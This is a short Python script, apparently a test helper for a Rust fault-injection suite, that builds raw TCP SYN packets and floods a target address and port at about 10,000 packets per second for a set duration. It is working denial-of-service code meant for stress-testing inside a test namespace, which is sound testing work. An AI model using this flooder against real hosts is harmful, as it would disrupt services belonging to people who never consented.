#!/usr/bin/env python3
"""A SYN flood for tests/heavy/faults.rs: raw TCP SYNs from SRC (source ports 40000-49999, whose
SYN-ACKs the caller drops so they stay half-open) to DST:PORT for SECS seconds. Prints one JSON
line with the count sent. Needs CAP_NET_RAW (root in the test's namespace)."""
import json
import random
import socket
import struct
import sys
import time

src, dst, port, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(sport, seq):
    hdr = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    return hdr[:16] + struct.pack("!H", checksum(pseudo + hdr)) + hdr[18:]


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
deadline = time.monotonic() + secs
sent = 0
while time.monotonic() < deadline:
    for _ in range(100):
        s.sendto(syn(40000 + sent % 10000, random.getrandbits(32)), (dst, 0))
        sent += 1
    time.sleep(0.01)  # ~10,000 SYNs per second
print(json.dumps({"syns": sent}))
